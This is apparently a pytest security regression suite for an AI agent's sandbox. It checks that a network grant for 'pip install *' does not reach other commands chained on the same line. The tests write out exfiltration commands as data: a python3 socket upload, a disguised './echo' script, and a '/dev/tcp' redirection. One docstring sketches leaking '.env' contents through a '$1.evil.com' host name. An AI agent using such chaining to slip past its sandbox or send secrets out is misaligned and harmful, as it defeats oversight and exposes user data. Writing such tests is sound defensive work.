"""The sandbox gives the network to a whole command line, so a grant for one command
(`sandbox.network_commands: ["pip install *"]` in the user's settings) must not cover a line that
also runs something else: `pip install … ; python3 -c '<upload>'` reached the network in `ci`
(docs/security.md sections 4 and 5). Through the real `kiln run --mode ci`, with a listener on the
host's loopback standing for the outside: nothing reaches it, and the granted command alone
still gets the network."""

from __future__ import annotations

import json
import socket
import threading
from pathlib import Path

import pytest

from agent.sandbox import find_backend
from tests.security.scripted_run import kiln_run, stream_transcript, tool_results

pytestmark = pytest.mark.skipif(find_backend() is None, reason="needs bubblewrap")


class Listener:
    """A TCP server on 127.0.0.1 that records what each connection sends."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.received: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()

    def _serve(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            with conn:
                self.received.append(conn.recv(1024))


def run(tmp_path: Path, kiln_home: Path, command: str) -> str:
    home = tmp_path / "home"
    root = home / "proj"
    root.mkdir(parents=True, exist_ok=True)
    settings = {"sandbox": {"network_commands": ["pip install *"]}}
    (kiln_home / "settings.json").write_text(json.dumps(settings))
    script = tmp_path / "script.json"
    script.write_text(json.dumps(
        [{"tool_calls": [{"name": "run_command", "input": {"command": command}}]}, "done"]
    ))  # fmt: skip
    proc = kiln_run(
        root, home=home, kiln_home=kiln_home, script=script, mode="ci", output="stream-json"
    )
    return " ".join(json.dumps(r) for r in tool_results(stream_transcript(proc)))


def upload(port: int) -> str:
    return (
        "python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', "
        f"{port})); s.sendall(b'exfil'); s.close(); print('sent')\""
    )


def test_a_grant_for_one_command_is_no_grant_for_the_rest_of_the_line(
    tmp_path: Path, kiln_home: Path
) -> None:
    listener = Listener()
    command = f"pip install --no-index kiln-no-such-package; {upload(listener.port)}"
    results = run(tmp_path, kiln_home, command)
    listener.sock.close()
    assert listener.received == [], results
    assert "network commands are not allowed in ci mode" in results, results


def test_the_granted_command_alone_still_gets_the_network(tmp_path: Path, kiln_home: Path) -> None:
    listener = Listener()
    index = f"http://127.0.0.1:{listener.port}/simple"
    results = run(tmp_path, kiln_home, f"cd . && pip install --index-url {index} --retries 0 x")
    listener.sock.close()
    assert listener.received and listener.received[0].startswith(b"GET /simple/x/"), results


@pytest.mark.parametrize("name", ["./echo", "bin/ls"])
def test_a_program_named_like_a_harmless_command_gets_no_network(
    tmp_path: Path, kiln_home: Path, name: str
) -> None:
    """`./echo` is the repository's script, not echo: before, the name alone counted, and
    `pip install …; ./echo hi` gave the script the network in ci."""
    listener = Listener()
    root = tmp_path / "home" / "proj"
    script = root / name
    script.parent.mkdir(parents=True, exist_ok=True)
    script.write_text(f"#!/bin/sh\n{upload(listener.port)}\n")
    script.chmod(0o755)
    results = run(tmp_path, kiln_home, f"pip install --no-index kiln-no-such-package; {name} hi")
    listener.sock.close()
    assert listener.received == [], results


def test_a_harmless_command_reading_from_a_socket_gets_no_network(
    tmp_path: Path, kiln_home: Path
) -> None:
    """bash itself connects for a redirection from `/dev/tcp/HOST/PORT`, whatever command it is
    on: before, `pip install …; echo < /dev/tcp/…` counted as pip and a harmless echo, got the
    network in ci, and the host name could carry a file (`set -- $(<.env)`, then `$1.evil.com`)."""
    listener = Listener()
    command = (
        f"pip install --no-index kiln-no-such-package; echo < /dev/tcp/127.0.0.1/{listener.port}"
    )
    results = run(tmp_path, kiln_home, command)
    listener.sock.close()
    assert listener.received == [], results
    assert "network commands are not allowed in ci mode" in results, results
